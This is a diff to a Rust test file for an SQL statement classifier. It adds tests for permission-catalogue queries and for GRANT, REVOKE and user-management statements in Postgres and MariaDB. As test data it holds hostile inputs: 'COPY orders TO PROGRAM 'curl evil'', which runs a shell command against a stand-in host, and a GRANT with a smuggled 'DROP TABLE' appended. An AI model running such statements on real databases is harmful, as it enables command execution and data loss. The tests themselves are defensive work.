@@ -84,6 +84,26 @@ fn plain_statements_are_understood() {
     }
 }
 
+/// How an account's rights are seen.
+#[test]
+fn catalogues_can_be_read() {
+    for (dialect, text) in [
+        (
+            Dialect::Postgres,
+            "SELECT 1 FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace \
+             CROSS JOIN LATERAL aclexplode(c.relacl) a JOIN pg_roles u ON u.oid = a.grantee \
+             WHERE n.nspname = $1::text AND a.privilege_type = $2::text",
+        ),
+        (
+            Dialect::Mariadb,
+            "SELECT 1 FROM mysql.tables_priv WHERE Db = ? AND FIND_IN_SET(?, Table_priv) > 0",
+        ),
+    ] {
+        let found = one(dialect, text);
+        assert_eq!((found.kind, found.concerns.len()), (Kind::Select, 0), "{found:?}");
+    }
+}
+
 /// Every one of these has a concern or is not understood.
 const HOSTILE: &[(Dialect, &str)] = &[
     (Dialect::Postgres, "COPY orders TO PROGRAM 'curl evil'"),
@@ -231,4 +251,49 @@ fn what_is_not_understood_is_refused_with_its_place() {
     let error = classify(Dialect::Postgres, "SELECT 1\nFROM )").unwrap_err();
     assert_eq!((error.line, error.column), (2, 6));
     assert!(!error.message.contains("Line"), "{error}");
+}
+
+/// What the parser does not know, and is no more than it seems.
+const RIGHTS: &[(Dialect, &str, Kind)] = &[
+    (Dialect::Postgres, "GRANT \"reporting\" TO \"an\"\"n\"", Kind::Grant),
+    (Dialect::Postgres, "GRANT reader, writer TO ann WITH ADMIN OPTION", Kind::Grant),
+    (Dialect::Postgres, "REVOKE reader FROM ann", Kind::Revoke),
+    (Dialect::Postgres, "GRANT SELECT, UPDATE ON TABLE shop.orders TO ann", Kind::Grant),
+    (Dialect::Postgres, "REVOKE TRUNCATE ON TABLE \"shop\".\"orders\" FROM \"ann\"", Kind::Revoke),
+    (Dialect::Postgres, "CREATE ROLE ann LOGIN PASSWORD 'x'", Kind::Create(Object::Role)),
+    (Dialect::Mariadb, "GRANT `reader` TO `ann`@`%`", Kind::Grant),
+    (Dialect::Mariadb, "grant reader to 'ann'@'10.0.0.%'", Kind::Grant),
+    (Dialect::Mariadb, "REVOKE reader FROM 'ann'@'%'", Kind::Revoke),
+    (Dialect::Mariadb, "GRANT SELECT ON `shop`.* TO `ann`@`%`", Kind::Grant),
+    (
+        Dialect::Mariadb,
+        "CREATE USER IF NOT EXISTS 'ann'@'%' IDENTIFIED BY 'x'",
+        Kind::Create(Object::Role),
+    ),
+    (Dialect::Mariadb, "ALTER USER ann ACCOUNT LOCK", Kind::Alter(Object::Role)),
+    (Dialect::Mariadb, "DROP USER IF EXISTS 'ann'@'%'", Kind::Drop(Object::Role)),
+];
+
+#[test]
+fn rights_are_understood() {
+    for (dialect, text, kind) in RIGHTS {
+        let found = one(*dialect, text);
+        assert_eq!((found.kind, found.text.as_str()), (*kind, *text));
+        assert_eq!(found.concerns, BTreeSet::new(), "{text}");
+        assert_eq!(found.transactional, *dialect != Dialect::Mariadb, "{text}");
+    }
+    for (dialect, text) in [
+        (Dialect::Postgres, "GRANT reader TO ann; DROP TABLE a"),
+        (Dialect::Postgres, "GRANT reader(1) TO ann"),
+        (Dialect::Postgres, "GRANT reader TO ann = 1"),
+        (Dialect::Postgres, "GRANTED reader TO ann"),
+        (Dialect::Mariadb, "GRANT reader TO ann IDENTIFIED BY 'x'"),
+        (Dialect::Mariadb, "GRANT SELECT ON shop.* TO ann@'%' IDENTIFIED BY 'x'"),
+        (Dialect::Mariadb, "GRANT PROXY ON ann TO bob"),
+        (Dialect::Sqlite, "GRANT reader TO ann"),
+    ] {
+        let found = classify(dialect, text).unwrap_or_default();
+        let plain = found.iter().all(|s| s.kind == Kind::Grant && s.concerns.is_empty());
+        assert!(found.is_empty() || !plain, "{text}: {found:?}");
+    }
 }
